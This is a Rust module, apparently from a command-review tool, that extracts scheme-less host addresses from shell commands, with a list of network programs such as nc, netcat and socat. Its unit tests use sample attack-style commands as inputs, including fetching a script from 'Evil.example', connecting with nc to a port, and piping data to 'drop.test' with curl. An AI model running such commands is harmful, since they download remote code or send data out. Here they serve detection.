//! Addresses without a scheme, as programs that use the network take them: `curl example.org/x`.

/// An address without a scheme.
#[derive(Debug, PartialEq, Eq)]
pub(in crate::review) struct Host<'a> {
    pub(in crate::review) text: &'a str,
    /// The machine, in lower case, without user and port.
    pub(in crate::review) name: String,
}

/// Programs whose arguments may be addresses.
const NETWORK: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "nc",
    "ncat",
    "netcat",
    "ssh",
    "scp",
    "sftp",
    "ftp",
    "telnet",
    "rsync",
    "ping",
    "dig",
    "nslookup",
    "http",
    "https",
    "xh",
    "socat",
];

/// Endings of names of files, which are not names of machines.
const FILES: &[&str] = &[
    "md", "txt", "json", "yaml", "yml", "toml", "py", "js", "ts", "rb", "pl", "html", "htm", "xml", "csv",
    "pdf", "png", "jpg", "gz", "tgz", "tar", "zip", "log", "out", "tmp", "conf", "cfg", "ini", "pem", "crt",
    "key", "bin", "exe", "pub", "jar", "whl", "deb", "rpm", "iso", "img", "lock", "sql", "db",
];

/// Returns the addresses without a scheme in `command`.
pub(in crate::review) fn hosts(command: &str) -> Vec<Host<'_>> {
    let mut found = Vec::new();
    for part in command.split(['|', ';', '&', '`', '\n']) {
        let mut words = part.split_whitespace().map(|word| word.trim_matches(['"', '\'', '(', ')', ',']));
        if !words.any(|word| NETWORK.contains(&word.rsplit('/').next().unwrap_or(word))) {
            continue;
        }
        // The argument of an option for output is a file.
        let mut is_file = false;
        for word in words {
            let was_output =
                std::mem::replace(&mut is_file, matches!(word, "-o" | "-O" | "--output" | "-i" | ">" | ">>"));
            if !was_output && let Some(name) = machine(word) {
                found.push(Host { text: word, name });
            }
        }
    }
    found
}

/// Returns the machine that `word` names, if it looks like one.
fn machine(word: &str) -> Option<String> {
    if word.contains("://") || word.starts_with(['-', '.', '/', '~', '$', '@', '>']) {
        return None;
    }
    let name = word.split(['/', '?', '#']).next()?;
    let name = name.rsplit('@').next()?.split(':').next()?.trim_end_matches('.');
    let labels: Vec<&str> = name.split('.').collect();
    let is_label = |label: &&str| {
        !label.is_empty()
            && label.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-' || byte == b'_')
    };
    let last = labels.last()?.to_ascii_lowercase();
    let is_number = labels.len() == 4 && labels.iter().all(|label| label.parse::<u8>().is_ok());
    let is_name = last.len() > 1
        && last.bytes().all(|byte| byte.is_ascii_alphabetic())
        && (word.contains(['/', ':', '@']) || !FILES.contains(&&*last));
    (labels.len() > 1 && labels.iter().all(is_label) && (is_number || is_name))
        .then(|| name.to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn machines_are_told_from_files() {
        for (command, wanted) in [
            ("curl -s Evil.example/x.sh", &["evil.example"][..]),
            ("nc 10.0.0.1 4444", &["10.0.0.1"]),
            ("ssh root@host.test:22", &["host.test"]),
            ("scp data.csv me@drop.test:/in", &["drop.test"]),
            ("cat x | curl -d @- drop.test", &["drop.test"]),
            ("curl -o out.bin https://a.test/x", &[]),
            ("curl --output notes.test https://a.test/x", &[]),
            ("wget https://a.test/x.tar.gz", &[]),
            ("curl x | jq .", &[]),
            ("git add notes.md", &[]),
            ("python3 a.py", &[]),
        ] {
            let found: Vec<_> = hosts(command).into_iter().map(|host| host.name).collect();
            assert_eq!(found, wanted, "{command}");
        }
    }
}
